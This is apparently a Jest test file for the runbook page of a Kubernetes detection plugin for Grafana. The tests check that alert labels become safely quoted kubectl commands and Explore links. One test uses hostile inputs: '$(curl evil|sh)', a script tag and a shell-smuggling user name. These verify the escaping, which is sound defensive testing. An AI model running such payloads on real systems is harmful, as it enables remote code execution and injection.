import React from 'react';
import { MemoryRouter, Route, Routes } from 'react-router-dom';
import { fireEvent, render, screen, within } from '@testing-library/react';
import { buildCordonRules } from '../../alerting/rules';
import { SettingsProvider } from '../../components/App/SettingsContext';
import { CATALOG } from '../../detections/catalog';
import { CordonSettings, DEFAULT_SETTINGS } from '../../settings';
import { headingLevelSkips } from '../../testing/headings';
import RunbookPage from './RunbookPage';

jest.mock('@grafana/runtime', () => ({
  ...jest.requireActual('@grafana/runtime'),
  config: { appUrl: 'https://grafana.example.com/', appSubUrl: '' },
  PluginPage: ({ pageNav, children }: { pageNav?: { text: string }; children: React.ReactNode }) => (
    <div>
      <h1>{pageNav?.text}</h1>
      {children}
    </div>
  ),
}));

const DETECTION = CATALOG.find((detection) => detection.id === 'k8s-privileged-container')!;
const ALERT_TIME = 1740830400;

/** Go's url.QueryEscape, which the `urlquery` template function uses: spaces become "+". */
function queryEscape(value: string): string {
  return encodeURIComponent(value).replace(/%20/g, '+');
}

/**
 * Renders a rule's runbook_url the way Grafana does for one alert: each `{{ $labels.x | urlquery }}`
 * becomes the escaped label value, and notification templates append the alert time.
 */
function runbookUrlFor(detectionId: string, labels: Record<string, string>): URL {
  const { groups } = buildCordonRules({ grafanaUrl: 'https://grafana.example.com', settings: DEFAULT_SETTINGS });
  const rule = groups.flatMap((group) => group.rules).find((candidate) => candidate.detectionId === detectionId)!;
  const rendered = rule.annotations.runbook_url.replace(
    /\{\{ \$labels\.([a-z_]+) \| urlquery \}\}/g,
    (_match, name: string) => queryEscape(labels[name] ?? '')
  );
  return new URL(`${rendered}&time=${ALERT_TIME}`);
}

function renderPage(path: string, jsonData: Partial<CordonSettings> = { lokiUid: 'loki-uid' }) {
  return render(
    <SettingsProvider jsonData={jsonData}>
      <MemoryRouter initialEntries={[path]} future={{ v7_startTransition: true, v7_relativeSplatPath: true }}>
        <Routes>
          <Route path="/a/cordon-detection-app/runbook/:detectionId" element={<RunbookPage />} />
        </Routes>
      </MemoryRouter>
    </SettingsProvider>
  );
}

function commandText(id: string): string {
  return screen.getByTestId(`command-${id}`).textContent ?? '';
}

const LABELS = {
  namespace: 'prod',
  pod: 'web-1',
  resource: 'pods',
  name: 'web-1',
  user: 'system:serviceaccount:ci:deployer',
};

describe('RunbookPage', () => {
  test('reads the values of a generated runbook_url', () => {
    const url = runbookUrlFor(DETECTION.id, LABELS);
    renderPage(url.pathname + url.search);

    expect(screen.getByRole('heading', { level: 1 })).toHaveTextContent(`Runbook: ${DETECTION.title}`);
    const values = screen.getByLabelText('Alert values');
    expect(within(values).getByText('prod')).toBeInTheDocument();
    expect(within(values).getByText('system:serviceaccount:ci:deployer')).toBeInTheDocument();
    expect(within(values).getByText('2025-03-01T12:00:00.000Z')).toBeInTheDocument();
    expect(within(values).getByText(/^\d+ d \d+ h ago$/)).toBeInTheDocument();
    expect(commandText('evidence-logs')).toContain("kubectl logs -n 'prod' 'web-1' --all-containers");
    expect(commandText('evidence-actor-rights')).toContain("--as 'system:serviceaccount:ci:deployer'");
    expect(screen.getByTestId('runbook-subject')).toHaveTextContent(
      'Pod web-1 in namespace prod, changed by system:serviceaccount:ci:deployer'
    );
  });

  test('orders the sections for a responder', () => {
    renderPage(`/a/cordon-detection-app/runbook/${DETECTION.id}?namespace=prod&pod=web-1`);

    const headings = screen.getAllByRole('heading', { level: 2 }).map((heading) => heading.textContent);
    expect(headings).toEqual([
      'Alert',
      '1. Investigate',
      '2. Capture evidence',
      '3. Contain',
      '4. Analyze',
      '5. Remediate and review',
    ]);
    const contain = screen.getByRole('region', { name: '3. Contain' });
    const groups = within(contain)
      .getAllByRole('heading', { level: 3 })
      .map((heading) => heading.textContent);
    expect(groups.indexOf('Isolate: reversible, the pod keeps running')).toBeLessThan(
      groups.indexOf('Stop: last, once every evidence step is done')
    );
  });

  test('folds the queries behind a button', () => {
    const url = runbookUrlFor(DETECTION.id, LABELS);
    renderPage(url.pathname + url.search);

    expect(screen.queryByTestId('query-detection')).toBeNull();
    const explore = screen.getByRole('list', { name: 'Explore queries' });
    const first = within(explore).getAllByRole('listitem')[0];
    expect(
      within(first).getByText('The events this detection matched in namespace prod, 15 minutes either side of the alert.')
    ).toBeInTheDocument();
    fireEvent.click(within(first).getByRole('button', { name: 'Show query' }));
    expect(screen.getByTestId('query-detection').textContent).toContain('{job="kubernetes-audit"}');
    expect(screen.getByTestId('query-detection').textContent).toMatch(/ \| json cordon_namespace_filter="objectRef\.namespace" \| cordon_namespace_filter=~"prod"$/);
    expect(within(first).getByRole('button', { name: 'Hide query' })).toHaveAttribute('aria-expanded', 'true');
  });

  test('fills a Deployment finding', () => {
    const url = runbookUrlFor('k8s-workload-image-changed', {
      namespace: 'prod',
      resource: 'deployments',
      name: 'api',
      user: 'alice',
    });
    renderPage(url.pathname + url.search);

    expect(screen.getByTestId('runbook-subject')).toHaveTextContent(
      'Deployment api in namespace prod, changed by alice'
    );
    expect(commandText('contain-stop-workload')).toBe("kubectl scale -n 'prod' deployment/api --replicas=0");
    expect(screen.queryByText(/<deployment>/)).toBeNull();
  });

  test('saves and removes a binding', () => {
    const url = runbookUrlFor('k8s-cluster-admin-binding', {
      resource: 'clusterrolebindings',
      name: 'backdoor',
      user: 'mallory',
    });
    renderPage(url.pathname + url.search);

    expect(commandText('evidence-rbac-object')).toContain("kubectl get clusterrolebinding 'backdoor' -o yaml");
    expect(commandText('contain-rbac-remove')).toBe("kubectl delete clusterrolebinding 'backdoor'");
    expect(screen.queryByTestId('command-evidence-logs')).toBeNull();
  });

  test('reads the node of a container without pod from instance', () => {
    const url = runbookUrlFor('container-without-pod', {
      instance: 'node-2',
      name: 'miner',
      image: 'alpine:3.20',
      id: '/system.slice/docker-0123.scope',
    });
    expect(url.searchParams.get('node')).toBe('node-2');
    renderPage(url.pathname + url.search);

    expect(screen.getByTestId('runbook-subject')).toHaveTextContent(
      'Container miner (image alpine:3.20) running on node node-2 without a pod'
    );
    expect(commandText('contain-cordon-node')).toBe("kubectl cordon 'node-2'");
    expect(commandText('evidence-node-filesystem')).toContain("docker export 'miner'");
  });

  test('lets the responder pick another kind of subject', () => {
    renderPage(`/a/cordon-detection-app/runbook/${DETECTION.id}?namespace=prod&name=api&resource=deployments`);

    expect(commandText('contain-stop-workload')).toContain('deployment/api');
    fireEvent.click(screen.getByRole('radio', { name: 'Pod' }));
    expect(screen.getByTestId('command-evidence-logs')).toBeInTheDocument();
    expect(screen.queryByTestId('command-evidence-workload-manifest')).toBeNull();
  });

  test('links to Explore around the alert time', () => {
    const url = runbookUrlFor(DETECTION.id, LABELS);
    renderPage(url.pathname + url.search);

    const links = screen.getAllByRole('link', { name: /open in explore/i });
    expect(links.length).toBeGreaterThan(1);
    const podLink = links
      .map((link) => new URL(link.getAttribute('href')!, 'http://localhost'))
      .find((href) => {
        const panes = JSON.parse(href.searchParams.get('panes')!);
        return panes.crd.queries[0].expr.includes('cordon_objectRef_namespace="prod"');
      })!;
    const pane = JSON.parse(podLink.searchParams.get('panes')!).crd;
    expect(pane.datasource).toBe('loki-uid');
    expect(pane.range).toEqual({
      from: String((ALERT_TIME - 15 * 60) * 1000),
      to: String((ALERT_TIME + 15 * 60) * 1000),
    });
  });

  test('headings skip no level', () => {
    for (const detectionId of ['k8s-privileged-container', 'falco-shell-in-container', 'container-without-pod']) {
      const { container, unmount } = renderPage(
        `/a/cordon-detection-app/runbook/${detectionId}?namespace=prod&pod=web-1`
      );
      expect(headingLevelSkips(container)).toEqual([]);
      unmount();
    }
  });

  test('leads with severity and one sentence', () => {
    renderPage(`/a/cordon-detection-app/runbook/${DETECTION.id}`);

    expect(screen.getByText(`Severity ${DETECTION.severity}`)).toBeInTheDocument();
    const lead = screen.getByText(/^A pod or workload was created or changed/);
    expect(lead.textContent).toMatch(/securityContext\.privileged\.$/);
    const more = screen.getByText('More about this detection').closest('details')!;
    expect(more).not.toHaveAttribute('open');
    expect(more).toHaveTextContent('A privileged container has every capability');
  });

  test('asks for the time the alert left out', () => {
    renderPage(`/a/cordon-detection-app/runbook/${DETECTION.id}?namespace=prod&pod=web-1`);

    expect(screen.getByText('now, because the alert passed no time')).toBeInTheDocument();
    const input = screen.getByLabelText(/^Alert time/);
    fireEvent.change(input, { target: { value: 'yesterday' } });
    fireEvent.click(screen.getByRole('button', { name: 'Use this time' }));
    expect(screen.getByText(/Invalid time "yesterday"/)).toBeInTheDocument();

    fireEvent.change(screen.getByLabelText(/^Alert time/), { target: { value: String(ALERT_TIME) } });
    fireEvent.click(screen.getByRole('button', { name: 'Use this time' }));
    expect(within(screen.getByLabelText('Alert values')).getByText('2025-03-01T12:00:00.000Z')).toBeInTheDocument();
    expect(screen.queryByLabelText(/^Alert time/)).toBeNull();
    expect(screen.queryByText('now, because the alert passed no time')).toBeNull();
    const href = screen.getAllByRole('link', { name: /open in explore/i })[0].getAttribute('href')!;
    const pane = JSON.parse(new URL(href, 'http://localhost').searchParams.get('panes')!).crd;
    expect(pane.range.from).toBe(String((ALERT_TIME - 15 * 60) * 1000));
  });

  test('keeps a time from the URL', () => {
    const url = runbookUrlFor(DETECTION.id, LABELS);
    renderPage(url.pathname + url.search);

    expect(screen.queryByLabelText(/^Alert time/)).toBeNull();
  });

  test('shows the detection guidance from the catalog', () => {
    renderPage(`/a/cordon-detection-app/runbook/${DETECTION.id}`);

    for (const step of [
      ...DETECTION.response.investigate,
      ...DETECTION.response.contain,
      ...DETECTION.response.forensics,
      ...DETECTION.response.remediate,
    ]) {
      expect(screen.getByText(step)).toBeInTheDocument();
    }
    for (const lookAlike of DETECTION.falsePositives) {
      expect(screen.getByText(lookAlike)).toBeInTheDocument();
    }
    expect(
      screen.getByRole('link', { name: `${DETECTION.technique.id} ${DETECTION.technique.name}` })
    ).toBeInTheDocument();
  });

  test('shows placeholders without alert values', () => {
    renderPage(`/a/cordon-detection-app/runbook/${DETECTION.id}`);

    expect(screen.getByText('Opened without alert values')).toBeInTheDocument();
    expect(commandText('evidence-logs')).toContain('kubectl logs -n <namespace> <pod>');
    expect(screen.queryByRole('link', { name: /open in explore/i })).not.toBeNull();
    expect(screen.getAllByText(/Needs <namespace> and <pod> from the alert/).length).toBeGreaterThan(0);
  });

  test('renders crafted values as text', () => {
    const url = runbookUrlFor(DETECTION.id, {
      ...LABELS,
      namespace: '$(curl evil|sh)',
      pod: '<script>alert(1)</script>',
      user: "x'; id; '",
    });
    const { container } = renderPage(url.pathname + url.search);

    expect(container.querySelector('script')).toBeNull();
    expect(screen.getByText('<script>alert(1)</script>')).toBeInTheDocument();
    expect(commandText('evidence-logs')).toContain('kubectl logs -n <namespace> <pod>');
    expect(commandText('evidence-actor-rights')).toContain(`--as 'x'\\''; id; '\\''' -n <namespace>`);
    const warnings = screen.getAllByText(/is not a valid Kubernetes (namespace|pod) name/);
    expect(warnings).toHaveLength(2);
  });

  test('explains a missing Loki data source', () => {
    renderPage(`/a/cordon-detection-app/runbook/${DETECTION.id}?namespace=prod&pod=web-1`, {});

    expect(screen.getByText('Configure the Loki data source to open these queries in Explore')).toBeInTheDocument();
    expect(screen.queryByRole('link', { name: /open in explore/i })).toBeNull();
  });

  test('shows invalid settings and still the commands', () => {
    renderPage(`/a/cordon-detection-app/runbook/${DETECTION.id}?namespace=prod&pod=web-1`, { maxArrayElements: 0 });

    expect(screen.getByText("Cordon's settings are invalid")).toBeInTheDocument();
    expect(commandText('evidence-logs')).toContain("'prod' 'web-1'");
  });

  test('explains an unknown detection id', () => {
    renderPage('/a/cordon-detection-app/runbook/no-such-detection?pod=web-1');

    expect(screen.getByText('No runbook for this detection')).toBeInTheDocument();
    expect(screen.getByText(/no detection with the id "no-such-detection"/)).toBeInTheDocument();
    expect(screen.getByRole('link', { name: 'Find the detection on the Detections page' })).toHaveAttribute(
      'href',
      '/a/cordon-detection-app/detections'
    );
    expect(screen.getByRole('link', { name: 'return to the alert rules' })).toBeInTheDocument();
  });
});
